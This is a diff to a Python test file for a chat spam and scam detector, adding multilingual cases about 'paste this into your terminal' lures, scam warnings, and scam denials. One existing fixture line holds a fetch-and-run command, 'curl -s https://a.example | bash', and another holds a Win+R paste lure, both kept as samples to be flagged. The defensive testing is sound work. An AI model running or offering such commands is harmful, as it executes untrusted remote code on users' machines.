@@ -163,7 +163,13 @@ def test_a_contact_in_answer_to_a_fresh_question_is_suspect() -> None:
         (Message(text="稳赚不赔 加我 @abcdef"), "profit"),
         (Message(text="fix: curl -s https://a.example | bash"), "command"),
         (Message(text="press Win + R, then Ctrl+V and Enter"), "command"),
-        (Message(text="paste this into your terminal"), "command"),
+        (Message(text="paste this into your terminal"), "paste"),
+        (Message(text="Press F12, open the console, paste the line below"), "paste"),
+        (Message(text="Pega este código en la consola"), "paste"),
+        (Message(text="Откройте терминал и вставьте туда команду"), "paste"),
+        (Message(text="把这行命令粘贴到终端里就好了"), "paste"),
+        (Message(text="このコマンドをターミナルに貼り付けてください"), "paste"),
+        (Message(text="이 명령어를 터미널에 붙여넣으세요"), "paste"),
     ],
 )
 def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
@@ -176,10 +182,46 @@ def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
         "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "Tiếng Việt rất đẹp", "สวัสดีครับ", "می‌خواهم بدانم",
         "нужен USDT на BSC",
         "is a guaranteed profit real?", "I use curl in a script", "@anna @ben thank you",
+        "I pasted the command into the terminal and got an error", "The console shows a warning",
+        "我在终端粘贴命令以后报错", "コンソールに貼り付けたらエラーが出ました",
+        "터미널에 붙여넣었더니 오류가 나요",
+        "they want me to paste something into the console, is it safe?",
     ],
 )  # fmt: skip
 def test_ordinary_signs_and_words_are_no_spam(text: str) -> None:
     assert action(text) in ("none", "report")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Beware, the guaranteed profit guys are scammers, they took my savings",
+        'He wrote "double your coins within a day". That is fraud, report them',
+        "Atención: lo de las ganancias garantizadas es una estafa, me robaron",
+        "Осторожно, гарантированный доход обещают только мошенники",
+        "小心，凡是说稳赚的都是骗子",
+        "必ず儲かると言われたら詐欺なので気をつけて",
+        "수익 보장이라고 하는 건 전부 사기예요 조심하세요",
+    ],
+)
+def test_who_points_at_a_scam_is_not_reported(text: str) -> None:
+    assert found(Message(text=text), "spam") == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "guaranteed profit every day, this is not a scam",
+        "ganancias garantizadas, no es una estafa",
+        "гарантированный доход, это не развод",
+        "稳赚，不是骗人的",
+        "必ず儲かる、詐欺ではありません",
+        "수익 보장, 사기 아닙니다",
+        "beware of scammers! guaranteed profit only with @profit_anna",
+    ],
+)
+def test_who_only_says_so_is(text: str) -> None:
+    assert "profit" in found(Message(text=text), "spam")
 
 
 def test_a_fast_typer_whom_we_know_is_warned_at_most_and_a_trusted_one_is_left_alone() -> None:
